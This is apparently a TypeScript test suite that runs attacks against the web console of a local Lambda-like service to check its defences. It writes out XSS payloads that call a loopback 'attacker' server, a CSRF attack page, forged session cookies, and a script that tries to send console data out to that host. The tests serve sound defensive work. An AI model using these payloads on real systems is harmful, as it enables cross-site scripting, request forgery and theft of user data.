// Attacks on the web console of a real `stratus up`: a hostile tenant's strings (description,
// variables, tags, log output, invoke response) shown in real Chromium as literal text with no
// script run; another account's functions out of reach through every console API; tampered session
// cookies; cross-origin (CSRF) posts from a page of another origin; a deleted key's session; a
// tenant's function URL page on the same origin, which runs sandboxed.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { AddPermissionCommand, CreateFunctionCommand, CreateFunctionUrlConfigCommand, type LambdaClient } from '@aws-sdk/client-lambda';
import type { Browser, HTTPResponse, Page } from 'puppeteer-core';
import { clientFor, createAccount, keyOf, stratusAccounts, type AccountKey, type Key } from '../helpers/accounts.js';
import { consoleSession, launchChromium, screenshot, signIn, waitForText } from '../helpers/browser.js';
import { startStratus, type StratusProcess } from '../helpers/stratus.js';
import { makeZip } from '../helpers/zip.js';

const SHOTS = 'console';

/** Markup that runs script (calling the loopback "attacker" server) if it is ever parsed as HTML. */
function payloads(hit: string) {
  return {
    img: `<img src=x onerror="fetch('${hit}/img')">`,
    script: `</script><script>fetch('${hit}/script')</script>`,
    svg: `"><svg onload="fetch('${hit}/svg')"></svg>`,
    iframe: `<iframe src="${hit}/iframe"></iframe>`,
  };
}

describe('web console attacks', () => {
  let s: StratusProcess;
  let a: AccountKey;
  let b: AccountKey;
  let lambdaA: LambdaClient;
  let browser: Browser;
  let attacker: Server;
  let hit: string;
  const hits: string[] = [];
  let p: ReturnType<typeof payloads>;
  const consoleApi = () => `${s.url}/_stratus/console/api`;
  const origin = () => new URL(s.url).origin;

  const sessionOf = (key: Key) => consoleSession(s.url, key);
  const get = (cookie: string, path: string) => fetch(`${consoleApi()}/${path}`, { headers: { cookie } });
  const post = (cookie: string, path: string, body: unknown, headers: Record<string, string> = { 'x-stratus-console': '1', origin: origin() }) =>
    fetch(`${consoleApi()}/${path}`, { method: 'POST', headers: { cookie, 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });
  const invocationsOf = async (cookie: string, name: string) => {
    const { points } = (await (await get(cookie, `functions/${name}/charts`)).json()) as { points: { invocations: number }[] };
    return points.reduce((sum, point) => sum + point.invocations, 0);
  };

  before(async () => {
    attacker = createServer((req, res) => {
      hits.push(req.url ?? '');
      if (req.url === '/attack.html') {
        // A page of another origin (same site: 127.0.0.1) posting to the console with the victim's cookie.
        const target = `${consoleApi()}/functions/evil/invoke`;
        res.writeHead(200, { 'content-type': 'text/html' });
        return res.end(`<!doctype html><form id="f" method="POST" enctype="text/plain" action="${target}"><input name='{"payload":"{}","x":"' value='"}'></form>
<script>fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"payload":"{}"}' })
  .finally(() => document.getElementById('f').submit());</script>`);
      }
      res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    hit = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    p = payloads(hit);
    s = await startStratus();
    a = await createAccount(s.url, s.credentials, 'console-victim');
    b = await createAccount(s.url, s.credentials, 'console-other');
    lambdaA = clientFor(s.url, keyOf(a));
    const code = `exports.handler = async () => { console.log(${JSON.stringify(Object.values(p).join(' '))}); return ${JSON.stringify(p)}; };`;
    await lambdaA.send(new CreateFunctionCommand({
      FunctionName: 'evil', Runtime: 'nodejs20.x', Role: 'arn:aws:iam::123456789012:role/r', Handler: 'index.handler', Timeout: 10,
      Description: p.img, Environment: { Variables: { SCRIPT: p.script, IFRAME: p.iframe } }, Tags: { svg: p.svg }, Code: { ZipFile: await makeZip({ 'index.js': code }) },
    }));
    browser = await launchChromium();
  });

  after(async () => {
    await browser?.close();
    await s?.stop();
    await new Promise((resolve) => attacker?.close(resolve));
  });

  /** No element the payloads would make exists on the page; nothing reached the attacker's server. */
  const assertNoMarkup = async (page: Page) => {
    const injected = await page.evaluate(() => (globalThis as unknown as { document: { querySelectorAll(s: string): { length: number } } })
      .document.querySelectorAll('#main img, #main svg, #main script, #main iframe, #main [onerror], #main [onload]').length);
    assert.equal(injected, 0, 'no element made from tenant strings');
    assert.deepEqual(hits.filter((h) => h !== '/attack.html'), [], 'no payload ran');
  };

  test('hostile description, variables, tags, log output and response show as literal text; no script runs', async () => {
    const page = await browser.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => void dialogs.push(dialog.message()));
    await signIn(page, s.url, keyOf(a));
    await page.waitForSelector('#functions tr[data-function="evil"]', { timeout: 60_000 });
    await waitForText(page, '#functions .description', p.img);
    await assertNoMarkup(page);
    await page.goto(`${s.url}/_stratus/console/#/functions/evil/configuration`);
    await waitForText(page, '#function-description', p.img);
    await waitForText(page, '#environment', p.script);
    await waitForText(page, '#environment', p.iframe);
    await waitForText(page, '#tags', p.svg);
    await assertNoMarkup(page);
    await screenshot(page, SHOTS, 'attack-01-configuration');
    await page.click('#tab-test');
    await page.waitForSelector('#invoke-button', { timeout: 60_000 });
    await page.click('#invoke-button');
    await waitForText(page, '#invoke-response', JSON.stringify(p.script).slice(1, -1));
    await assertNoMarkup(page);
    await screenshot(page, SHOTS, 'attack-02-response');
    await page.click('#tab-logs');
    await waitForText(page, '#log-lines', Object.values(p).join(' '));
    await assertNoMarkup(page);
    await screenshot(page, SHOTS, 'attack-03-logs');
    assert.deepEqual(dialogs, []);
    await page.close();
  });

  test('the page is served with a strict CSP and no framing', async () => {
    const res = await fetch(`${s.url}/_stratus/console/`);
    const csp = res.headers.get('content-security-policy') ?? '';
    for (const directive of ["default-src 'none'", "script-src 'self'", "frame-ancestors 'none'", "connect-src 'self'"]) assert.ok(csp.includes(directive), directive);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
    assert.equal(res.headers.get('x-frame-options'), 'DENY');
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
  });

  test("another account's session gets 404 for the function in every console API, and sees none of its environments", async () => {
    const cookieA = await sessionOf(keyOf(a));
    const cookieB = await sessionOf(keyOf(b));
    assert.equal((await get(cookieA, 'functions/evil')).status, 200, 'its own account sees it');
    for (const path of ['functions/evil', 'functions/evil/charts', 'functions/evil/logs', 'functions/evil/logs?afterTime=0&afterId=0']) {
      assert.equal((await get(cookieB, path)).status, 404, path);
    }
    const before = await invocationsOf(cookieA, 'evil');
    assert.equal((await post(cookieB, 'functions/evil/invoke', { payload: '{}' })).status, 404, 'invoke');
    assert.deepEqual(await (await get(cookieB, 'functions')).json(), { functions: [] });
    const { workers } = (await (await get(cookieB, 'environments')).json()) as { workers: { environments: unknown[]; stems: unknown }[] };
    assert.deepEqual(workers, [], 'no environment of another account, no warm pool');
    const mine = (await (await get(cookieA, 'environments')).json()) as { workers: { environments: { functionName: string }[] }[] };
    assert.ok(mine.workers.some((w) => w.environments.some((e) => e.functionName === 'evil')), 'the owner sees its environment');
    assert.equal(await invocationsOf(cookieA, 'evil'), before, 'nothing was invoked');
  });

  test('tampered session cookies are refused', async () => {
    const cookie = await sessionOf(keyOf(b));
    const [name, token] = cookie.split('=') as [string, string];
    const [v, payload, mac] = token.split('.') as [string, string, string];
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>;
    const forged = Buffer.from(JSON.stringify({ ...claims, a: a.AccountId })).toString('base64url');
    const longer = Buffer.from(JSON.stringify({ ...claims, e: Number(claims.e) * 2 })).toString('base64url');
    const flipped = `${mac.slice(0, -1)}${mac.endsWith('A') ? 'B' : 'A'}`;
    for (const bad of [`${v}.${forged}.${mac}`, `${v}.${longer}.${mac}`, `${v}.${payload}.${flipped}`, `${v}.${payload}.`, 'garbage']) {
      assert.equal((await get(`${name}=${bad}`, 'functions')).status, 401, bad);
      assert.equal((await get(`${name}=${bad}`, 'functions/evil')).status, 401, bad);
    }
    assert.equal((await get(cookie, 'functions')).status, 200, 'the real cookie still works');
  });

  test('cross-origin posts are refused: a page of another origin in Chromium, and requests without the console header or origin', async () => {
    const cookieA = await sessionOf(keyOf(a));
    const before = await invocationsOf(cookieA, 'evil');
    const context = await browser.createBrowserContext();
    const page = await context.newPage();
    await signIn(page, s.url, keyOf(a));
    const statuses: number[] = [];
    const invokeUrl = `${consoleApi()}/functions/evil/invoke`;
    page.on('response', (res: HTTPResponse) => {
      if (res.url() === invokeUrl && res.request().method() === 'POST') statuses.push(res.status());
    });
    await page.goto(`${hit}/attack.html`);
    await page.waitForFunction((url: string) => (globalThis as unknown as { location: { href: string } }).location.href === url, { timeout: 60_000 }, invokeUrl);
    // The form's post is the page's last request: wait for its answer (not for an idle network, which a busy machine may never give).
    for (let i = 0; i < 600 && statuses.length === 0; i++) await new Promise((r) => setTimeout(r, 100));
    await screenshot(page, SHOTS, 'attack-04-csrf');
    await context.close();
    assert.ok(statuses.length > 0 && statuses.every((status) => status === 403), `the page's posts were refused: ${statuses.join(', ')}`);
    assert.equal((await post(cookieA, 'functions/evil/invoke', {}, { origin: origin() })).status, 403, 'no console header');
    assert.equal((await post(cookieA, 'functions/evil/invoke', {}, { 'x-stratus-console': '1' })).status, 403, 'no origin');
    assert.equal((await post(cookieA, 'functions/evil/invoke', {}, { 'x-stratus-console': '1', origin: hit })).status, 403, 'another origin');
    assert.equal((await post(cookieA, 'functions/evil/invoke', {}, { 'x-stratus-console': '1', origin: origin(), 'sec-fetch-site': 'same-site' })).status, 403, 'same-site is not same-origin');
    assert.equal((await post('', 'login', keyOf(a), { 'x-stratus-console': '1', origin: hit })).status, 403, 'sign-in from another origin');
    assert.equal(await invocationsOf(cookieA, 'evil'), before, 'nothing was invoked');
    assert.equal((await post(cookieA, 'functions/evil/invoke', {})).status, 200, 'the console itself may invoke');
  });

  test("a deleted key's session stops working", async () => {
    const created = await stratusAccounts(s.url, s.credentials, ['keys', 'create', b.AccountId]);
    assert.equal(created.code, 0, created.stderr);
    const key = JSON.parse(created.stdout) as { AccessKeyId: string; SecretAccessKey: string };
    const cookie = await sessionOf({ accessKeyId: key.AccessKeyId, secretAccessKey: key.SecretAccessKey });
    assert.equal((await get(cookie, 'functions')).status, 200);
    const deleted = await stratusAccounts(s.url, s.credentials, ['keys', 'delete', b.AccountId, key.AccessKeyId]);
    assert.equal(deleted.code, 0, deleted.stderr);
    for (const path of ['session', 'functions', 'environments']) assert.equal((await get(cookie, path)).status, 401, path);
    assert.equal((await post(cookie, 'logout', {})).status, 204, 'signing out needs no session');
  });

  test("a tenant's function URL page, on the same origin, can neither read the console with a visitor's session nor replace it", async () => {
    const page = `<!doctype html><p id="done">page</p><script>
try { document.cookie = 'stratus_console=forged; path=/_stratus/console/'; } catch (e) { fetch('${hit}/url-cookie-refused'); }
fetch('/_stratus/console/api/functions', { credentials: 'include' })
  .then((r) => r.text()).then((t) => fetch('${hit}/url-stolen?' + encodeURIComponent(t.slice(0, 200))))
  .catch(() => fetch('${hit}/url-blocked'));
</script>`;
    const code = `exports.handler = async () => ({ statusCode: 200, headers: { 'content-type': 'text/html' }, cookies: ['stratus_console=forged; Path=/', 'theirs=1; Path=/'], body: ${JSON.stringify(page)} });`;
    await lambdaA.send(new CreateFunctionCommand({
      FunctionName: 'urlpage', Runtime: 'nodejs20.x', Role: 'arn:aws:iam::123456789012:role/r', Handler: 'index.handler', Code: { ZipFile: await makeZip({ 'index.js': code }) },
    }));
    await lambdaA.send(new AddPermissionCommand({ FunctionName: 'urlpage', StatementId: 'public', Action: 'lambda:InvokeFunctionUrl', Principal: '*', FunctionUrlAuthType: 'NONE' }));
    const { FunctionUrl } = await lambdaA.send(new CreateFunctionUrlConfigCommand({ FunctionName: 'urlpage', AuthType: 'NONE' }));
    const direct = await fetch(FunctionUrl ?? '');
    assert.match(direct.headers.get('content-security-policy') ?? '', /(^|, )sandbox allow-scripts/);
    assert.deepEqual(direct.headers.getSetCookie(), ['theirs=1; Path=/'], "the console's cookie is never set by a function");

    // A browser of the visitor's own (the other tests' sessions stay out of it).
    const context = await browser.createBrowserContext();
    const victim = await context.newPage();
    try {
      await signIn(victim, s.url, keyOf(b));
      await victim.goto(FunctionUrl ?? '');
      const reported = async () => hits.filter((h) => h.startsWith('/url-'));
      for (let i = 0; i < 100 && !(await reported()).some((h) => h === '/url-blocked' || h.startsWith('/url-stolen')); i++) await new Promise((r) => setTimeout(r, 100));
      const seen = await reported();
      assert.ok(seen.includes('/url-blocked'), `the page's read of the console was refused: ${JSON.stringify(seen)}`);
      assert.equal(seen.some((h) => h.startsWith('/url-stolen')), false);
      await victim.goto(`${s.url}/_stratus/console/api/session`);
      const session = JSON.parse(await victim.evaluate(() => (globalThis as unknown as { document: { body: { innerText: string } } }).document.body.innerText)) as { accountId?: string };
      assert.equal(session.accountId, b.AccountId, "the visitor's own session is intact");
    } finally {
      await context.close();
      hits.splice(0, hits.length, ...hits.filter((h) => !h.startsWith('/url-')));
    }
  });
});
